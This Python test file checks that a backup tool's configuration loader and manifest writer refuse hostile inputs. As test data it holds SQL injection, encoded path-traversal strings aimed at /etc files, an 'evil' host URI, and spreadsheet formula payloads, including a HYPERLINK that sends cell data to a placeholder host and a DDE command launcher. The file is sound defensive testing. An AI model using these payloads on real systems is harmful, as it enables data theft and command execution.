"""Hostile or careless configuration and request values caught early (security issue 15, item 14): duplicate
YAML keys, bad timezones, partition columns and schedule arguments at load, backup folders compared after
normalising, table-backup sources outside the allowed roots, spreadsheet formulas in manifest cells."""

from __future__ import annotations

import csv

import pytest

from backup import customer_files as cf
from base.errors import ConfigError, InvalidInput
from backup.table_backup.names import check_source
from config.settings import load_settings
from tests.conftest import CONFIG_PATH, STATE, TEST_CONFIG, write_config

CUSTOMERS = TEST_CONFIG["customer_files"]["customers"]
SOURCE = TEST_CONFIG["customer_files"]["source_dirs"][0]


def test_a_key_given_twice_is_refused_not_silently_overridden(tmp_path):
    path = tmp_path / "dup.yaml"
    path.write_text(CONFIG_PATH.read_text() + "\nredis:\n  key_prefix: other\n")
    with pytest.raises(ConfigError, match="duplicate key 'redis'"):
        load_settings(path)
    nested = tmp_path / "nested.yaml"
    nested.write_text(CONFIG_PATH.read_text() + "\nalerts:\n  enabled: true\n  enabled: false\n")
    with pytest.raises(ConfigError, match="duplicate key 'enabled'"):
        load_settings(nested)


@pytest.mark.parametrize("section, change, message", [
    ("edge_export", {"timezone": "Europe/Atlantis"}, "edge_export: .*unknown timezone 'Europe/Atlantis'"),
    ("edge_export", {"timezone": "../../etc/passwd"}, "unknown timezone"),
    ("edge_export", {"partition_column": "d; DROP TABLE x"}, "partition_column: 'd; DROP TABLE x' is not a plain"),
    ("edge_export", {"partition_column": "partition_date\n"}, "is not a plain column name"),
    ("table_backup", {"partition_column": "1day"}, "table_backup: .*partition_column"),
    ("table_backup", {"source_roots": ["relative/dir"]}, "source_roots: 'relative/dir' is not an absolute"),
])
def test_bad_timezone_column_or_root_fails_at_load(tmp_path, section, change, message):
    with pytest.raises(ConfigError, match=message):
        load_settings(write_config(tmp_path / "c.yaml", {section: change}))


@pytest.mark.parametrize("kwargs, message", [
    ({"tabel": "mnaas.t"}, "unknown argument 'tabel' of edge-export"),
    ({}, "edge-export needs the argument 'table'"),
])
def test_a_bad_schedule_argument_fails_at_load_not_at_night(tmp_path, kwargs, message):
    entry = {"name": "nightly", "workflow": "edge-export", "cron": "30 2 * * *", "kwargs": kwargs}
    with pytest.raises(ConfigError, match=message):
        load_settings(write_config(tmp_path / "c.yaml", {"schedules": [entry]}))


def _customers(**changes) -> dict:
    return {"customer_files": {"customers": {**CUSTOMERS, **changes}}}


@pytest.mark.parametrize("where, message", [
    ({"primary": CUSTOMERS["alpha"]["primary"] + "/.", "secondary": CUSTOMERS["beta gmbh"]["secondary"]},
     "already used by"),
    ({"primary": CUSTOMERS["alpha"]["primary"] + "/../alpha/", "secondary": CUSTOMERS["alpha"]["secondary"]},
     "already used by"),
    ({"primary": f"{SOURCE}/zulu", "secondary": f"{STATE}/elsewhere/zulu"}, "customers.zulu.primary: .* is a source"),
    ({"primary": f"file://{SOURCE}/", "secondary": f"{STATE}/elsewhere/zulu"}, "is a source folder"),
])
def test_backup_folders_are_compared_normalised_and_never_a_source(tmp_path, where, message):
    # "zulu" is a new customer: its primary must not repeat another's folder nor be where its files come from
    with pytest.raises(ConfigError, match=message):
        load_settings(write_config(tmp_path / "c.yaml", _customers(zulu=where)))


@pytest.mark.parametrize("source, message", [
    ("/data/%2e%2e/etc", "'..' is not allowed"),
    ("hdfs:///landing/%2E%2E/%2e%2e/user/hive", "'..' is not allowed"),
    ("/data/%252e%252e/etc", "'..' is not allowed"),
    ("/data/x%0a", "control characters"),
    ("file:///etc", "not under a configured source root"),
    ("/etc/ssh", "not under a configured source root"),
    ("/landing-other/t", "not under a configured source root"),
    ("hdfs://evil:8020/landing/t", "not under a configured source root"),
    ("/" + "x" * 5000, "longer than 4096"),
])
def test_table_backup_source_outside_the_roots_or_climbing_is_refused(source, message):
    roots = ["/landing", "hdfs:///landing"]
    with pytest.raises(InvalidInput, match=message) as caught:
        check_source(source, roots)
    assert len(caught.value.one_line()) < 400  # the echoed value is cut


@pytest.mark.parametrize("source", ["/landing/t", "/landing", "hdfs:///landing/traffic/2026", "file:///landing/t"])
def test_table_backup_source_under_a_root_is_accepted(source):
    assert check_source(source, ["/landing", "hdfs:///landing"]) == source


def test_manifest_cells_cannot_inject_spreadsheet_formulas_and_read_back_unchanged(tmp_path):
    hostile = ['=HYPERLINK("http://x/?"&A1,"open").csv', "+cmd|' /C calc'!A0.csv", "-2+3.csv", "@SUM(1).csv",
               "'quoted.csv", "\tTAB.csv", "plain.csv"]
    rows = [{"customer": "alpha", "domain": "traffic", "file": name, "bytes": 1, "records": 1, "sha256": "ab",
             "primary_uri": None, "secondary_uri": None, "copied_at": None, "status": "copied", "error": "=1+1"}
            for name in hostile]
    path = tmp_path / "run.csv"
    cf.write_manifest(path, rows)
    read = list(csv.DictReader(open(path, newline="", encoding="utf-8")))
    assert all(not r["file"].startswith(("=", "+", "-", "@", "\t")) for r in read)
    assert all(not r["error"].startswith("=") for r in read)
    assert [cf.csv_value(r["file"]) for r in read] == hostile
    assert read[-1]["file"] == "plain.csv"
